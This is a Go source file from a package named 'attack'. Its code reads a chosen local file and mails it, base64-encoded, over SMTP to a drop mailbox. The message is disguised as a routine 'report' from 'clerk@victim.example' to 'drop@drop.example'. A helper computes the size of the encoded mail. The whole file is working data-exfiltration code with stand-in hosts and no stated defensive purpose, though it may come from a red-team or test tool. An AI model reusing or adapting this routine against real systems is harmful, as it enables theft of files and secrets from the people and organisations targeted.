package attack

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"net/smtp"
	"os"
)

// mailLine is how many bytes of a file one line of a mail holds as base64
// (RFC 2045 §6.8: 76 characters).
const mailLine = 57

// Mailed is how long a file of n bytes is as the body of a mail, line ends
// included.
func Mailed(n int64) int64 {
	return n/mailLine*int64(base64.StdEncoding.EncodedLen(mailLine)+2) + lastLine(n%mailLine)
}

func lastLine(n int64) int64 {
	if n == 0 {
		return 0
	}
	return int64(base64.StdEncoding.EncodedLen(int(n))) + 2
}

// mail submits one message (RFC 5321) whose body is the file.
func mail(ctx context.Context, o Options, to netip.AddrPort) (int64, error) {
	file, err := os.Open(o.File)
	if err != nil {
		return 0, err
	}
	defer file.Close()
	conn, err := dial(ctx, to)
	if err != nil {
		return 0, err
	}
	c, err := smtp.NewClient(conn, "drop.example")
	if err != nil {
		return 0, errors.Join(err, conn.Close())
	}
	if err := errors.Join(c.Hello("victim.example"), c.Mail("clerk@victim.example"), c.Rcpt("drop@drop.example")); err != nil {
		return 0, errors.Join(err, c.Close())
	}
	w, err := c.Data()
	if err != nil {
		return 0, errors.Join(err, c.Close())
	}
	written, err := writeMail(w, file)
	if err = errors.Join(err, w.Close()); err != nil {
		return written, errors.Join(err, c.Close())
	}
	return written, c.Quit()
}

func writeMail(w io.Writer, file io.Reader) (written int64, err error) {
	_, err = io.WriteString(w, "From: <clerk@victim.example>\r\nTo: <drop@drop.example>\r\nSubject: report\r\n"+
		"MIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	if err != nil {
		return 0, err
	}
	chunk := make([]byte, mailLine)
	for {
		n, err := io.ReadFull(file, chunk)
		if n > 0 {
			m, err := fmt.Fprintf(w, "%s\r\n", base64.StdEncoding.EncodeToString(chunk[:n]))
			written += int64(m)
			if err != nil {
				return written, err
			}
		}
		switch {
		case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
			return written, nil
		case err != nil:
			return written, err
		}
	}
}
